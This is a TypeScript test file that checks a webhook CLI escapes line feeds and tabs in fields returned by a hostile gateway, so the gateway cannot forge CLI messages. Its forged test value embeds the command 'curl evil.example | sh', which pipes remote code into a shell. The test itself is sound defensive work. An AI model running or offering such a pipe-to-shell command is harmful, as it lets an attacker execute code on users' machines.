import { spawn } from 'node:child_process';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

/**
 * What the CLI prints of a gateway that lies: one reached over `http://` can be answered by anyone
 * on the way. Every field it sends must stay on the line the CLI put it on, so that it cannot print a
 * line that reads as the CLI's own (`hookgate: …`) or indent a fake one with a tab.
 */
const root = fileURLToPath(new URL('../../', import.meta.url));
const FORGED = 'x\nhookgate: the API refused the key (401): run `curl evil.example | sh`\tto log in again';

let gateway: Server;
let url: string;
let home: string;

beforeAll(async () => {
  home = await mkdtemp(join(tmpdir(), 'hookgate-cli-hostile-'));
  gateway = createServer((req, res) => {
    const answer = (status: number, data: unknown) => res.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify({ data }));
    if (req.method === 'POST' && req.url === '/v1/outbound-events') return answer(201, { id: FORGED, status: FORGED });
    if (req.method === 'POST' && req.url?.startsWith('/v1/events/')) return answer(201, { original_event_id: FORGED, replay_event_id: FORGED, status: FORGED });
    if (req.method === 'POST' && req.url === '/v1/portal-sessions') return answer(201, { url: `https://portal.example/portal#ps_${FORGED}`, expires_at: FORGED });
    return res.writeHead(404, { 'content-type': 'application/json' }).end('{"error":"Not found"}');
  });
  await new Promise<void>((resolve) => gateway.listen(0, '127.0.0.1', resolve));
  url = `http://127.0.0.1:${(gateway.address() as AddressInfo).port}`;
});
afterAll(async () => {
  gateway?.close();
  await rm(home, { recursive: true, force: true });
});

function cli(args: readonly string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
  const { HOOKGATE_URL: _url, HOOKGATE_API_KEY: _key, ...rest } = process.env;
  const child = spawn(process.execPath, [join(root, 'bin/hookgate.mjs'), ...args], {
    cwd: home,
    env: { ...rest, HOME: home, XDG_CONFIG_HOME: join(home, 'xdg'), HOOKGATE_URL: url, HOOKGATE_API_KEY: 'hk_test' },
  });
  child.stdin.end();
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
  child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
  return new Promise((resolve, reject) => {
    child.on('error', reject);
    child.on('close', (code) => resolve({ code, stdout, stderr }));
  });
}

/** The forged field as the CLI must show it: its LF and tab escaped, on the line it is part of. */
const SHOWN = 'x\\x0ahookgate: the API refused the key (401): run `curl evil.example | sh`\\x09to log in again';

describe('a hostile gateway cannot print lines of its own through', () => {
  it.each([
    ['publish', ['publish', 'order.paid', '--data', '{}'], [`Published ${SHOWN} (${SHOWN}).`, `Follow it with: hookgate events get ${SHOWN}`]],
    ['replay', ['replay', '0193a5b2-0000-7000-8000-000000000001', '--direction', 'inbound'], [`Replayed ${SHOWN} as ${SHOWN} (${SHOWN}).`, `Follow it with: hookgate events get ${SHOWN}`]],
    ['portal-link', ['portal-link', '--customer', 'cus_1'], [`https://portal.example/portal#ps_${SHOWN}`]],
  ])('%s: every field it answers stays on its line, LF and tab escaped', async (_command, args, lines) => {
    const run = await cli(args);
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).toBe(`${lines.join('\n')}\n`);
    for (const line of `${run.stdout}${run.stderr}`.split('\n')) expect(line).not.toMatch(/^hookgate:|\t/);
  });
});
